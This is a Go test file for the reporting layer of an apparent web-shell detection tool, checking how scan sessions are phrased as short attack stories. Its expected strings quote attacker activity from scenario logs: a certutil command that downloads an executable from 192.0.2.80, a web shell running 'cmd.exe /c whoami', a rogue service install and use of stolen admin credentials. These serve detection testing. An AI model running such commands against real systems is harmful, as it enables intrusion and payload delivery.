package phrase_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"webshellscan/report/phrase"
	"webshellscan/report/reporttest"
	"webshellscan/rules"
	"webshellscan/scan"
	"webshellscan/scan/event"
	"webshellscan/scan/finding"
	"webshellscan/scan/story"
)

// TestStoryIsShort: however much happened, a story has ten lines at most, in
// the order of time, and what weighs most stands in one of its own.
func TestStoryIsShort(t *testing.T) {
	for _, n := range []int{0, 1, 2, 10, 11, 100, 5000} {
		s := &finding.Session{}
		for i := range n {
			f := &finding.Finding{Time: event.Time(i+1) * event.Second, Level: rules.LevelMedium, Image: `C:\a.exe`, CommandLine: fmt.Sprintf("a.exe %c", 'a'+rune(i))}
			if i == n/2 {
				f.Level, f.CommandLine = rules.LevelCritical, "the gravest"
			}
			s.Findings = append(s.Findings, f)
			s.Shapes = append(s.Shapes, finding.Shape{Findings: []*finding.Finding{f}})
		}
		lines := phrase.Story(s)
		if want := min(n, phrase.MaxStoryLines); len(lines) > phrase.MaxStoryLines || n <= phrase.MaxStoryLines && len(lines) != want {
			t.Errorf("%d processes: %d lines", n, len(lines))
		}
		alone := n == 0
		for i, line := range lines {
			if i > 0 && line.First < lines[i-1].Last {
				t.Errorf("%d processes: line %d begins before the one above ends", n, i)
			}
			alone = alone || strings.HasSuffix(phrase.Plain(line.Parts), "the gravest") && line.First == line.Last
		}
		if !alone {
			t.Errorf("%d processes: the gravest has no line of its own:\n%+v", n, lines)
		}
	}
}

// TestStoryTells: a story names the page and the client, what was written with
// its hash, what was reached, what was left behind and what ran by it.
func TestStoryTells(t *testing.T) {
	for name, want := range map[string][]string{
		"events-security": {
			"POST /erp/i.aspx from 203.0.113.50: ", `certutil -urlcache -f http://192.0.2.80/u C:\ProgramData\upd.exe; connected to 192.0.2.80:80`, "same page: ",
			"installed the service WinUpd", `run by the scheduled task \Updater`, "used the credentials of CORP\\dbadmin for DB01",
		},
		"events-sysmon": {`wrote C:\inetpub\wwwroot\up\k.aspx`, "SHA-256 ", "its image was tampered with", "connected to 203.0.113.200:8443"},
		"iis-post":      {"POST /uploads/img2.aspx from 203.0.113.9: cmd.exe /c whoami"},
	} {
		s := sessionOf(t, name)
		var all strings.Builder
		for _, line := range phrase.Story(s) {
			all.WriteString(phrase.Plain(line.Parts) + "\n")
		}
		for _, w := range want {
			if !strings.Contains(all.String(), w) {
				t.Errorf("%s: the story lacks %q:\n%s", name, w, &all)
			}
		}
		if strings.Contains(all.String(), "net1.exe") {
			t.Errorf("%s: what net.exe runs by itself is told:\n%s", name, &all)
		}
	}
}

// TestEntryPointIsSaid: an entry point is said with its counts, and that none
// stands out where that is so.
func TestEntryPointIsSaid(t *testing.T) {
	list := phrase.EntryPoints(sessionOf(t, "iis-post"))
	const want = "POST /uploads/img2.aspx (likely): 8 of 8 processes began while it ran (0 would by chance), 8 of its 8 requests ran then; from 203.0.113.9; user agent "
	if len(list) != 1 || !strings.HasPrefix(phrase.Plain(list[0]), want) {
		t.Errorf("entry points: %v", list)
	}
	none := &finding.Session{EntryPoints: []*finding.EntryPoint{{URI: "/", Confidence: story.ConfidenceNone}}}
	if list := phrase.EntryPoints(none); len(list) != 1 || !strings.HasPrefix(phrase.Plain(list[0]), "none stands out: 1 page") {
		t.Errorf("entry points without confidence: %v", list)
	}
	if list := phrase.EntryPoints(&finding.Session{}); list != nil {
		t.Errorf("entry points without a web log: %v", list)
	}
}

// sessionOf scans a scenario of the corpus, and returns its gravest session.
func sessionOf(t *testing.T, name string) *finding.Session {
	t.Helper()
	path := filepath.Join("..", "..", "..", "shared", "corpus", "story", name, "logs")
	if _, err := os.Stat(path); err != nil {
		t.Skip("no ../shared/corpus/story: stories of scenarios were not told")
	}
	res, err := scan.Scan(t.Context(), scan.Options{Paths: []string{path}})
	if err != nil || len(res.Sessions) == 0 {
		t.Fatalf("%s: %v", name, err)
	}
	return res.Sessions[0]
}

// TestSentenceNamesWhatWasWritten: a file that was read or only asked for is
// none that a session wrote.
func TestSentenceNamesWhatWasWritten(t *testing.T) {
	access := func(id uint16, mask, path string) *finding.Event {
		fields := []story.Field{{Name: "ObjectType", Value: "File"}, {Name: "ObjectName", Value: path}, {Name: "AccessMask", Value: mask}}
		return &finding.Event{Event: &story.Event{
			Category: story.FileAccess, Summary: path, Record: &story.Record{ID: id, Fields: fields}, Count: 1,
		}}
	}
	s := &finding.Session{Events: []*finding.Event{
		access(4663, "0x1", `C:\web\web.config`), access(4656, "0x2", `C:\web\asked.aspx`), access(4663, "0x2", `C:\web\shell.aspx`),
	}}
	if said := phrase.Plain(phrase.Sentence(s)); !strings.Contains(said, " It wrote shell.aspx.") {
		t.Errorf("not as it was: %s", said)
	}
}

// BenchmarkStory: what a process did with very many files is told in time that
// grows as their number does.
func BenchmarkStory(b *testing.B) {
	shipped := reporttest.Shipped(b, filepath.Join("..", ".."), 0).Sessions[0]
	var first *finding.Event
	for _, e := range shipped.Events {
		if e.Process.Exists() && e.Category == story.NetworkConnection {
			first = e
		}
	}
	for _, n := range []int{1000, 10_000} {
		s := *shipped
		s.Events = make([]*finding.Event, n)
		for i := range n {
			event := *first.Event
			event.Summary = fmt.Sprintf("connected to 192.0.2.1:%d", i)
			s.Events[i] = &finding.Event{Event: &event, Host: first.Host, Session: &s}
		}
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				phrase.Story(&s)
			}
		})
	}
}

// TestStoryLeft: what bounds left out is told.
func TestStoryLeft(t *testing.T) {
	for _, tt := range []struct {
		events, requests, uncounted int
		want                        string
	}{
		{0, 0, 0, ""},
		{20_000, 0, 0, "Left out, beyond what a session keeps: 20000 events"},
		{0, 1, 0, "Left out, beyond what a session keeps: 1 request"},
		{2, 3, 0, "Left out, beyond what a session keeps: 2 events and 3 requests"},
		{0, 0, 4, "Entry points were found without 4 more requests"},
		{1, 0, 1, "Left out, beyond what a session keeps: 1 event. Entry points were found without 1 more request"},
	} {
		if got := phrase.StoryLeft(&finding.Session{EventsOmitted: tt.events, RequestsOmitted: tt.requests, RequestsUncounted: tt.uncounted}); got != tt.want {
			t.Errorf("%+v: %q", tt, got)
		}
	}
}
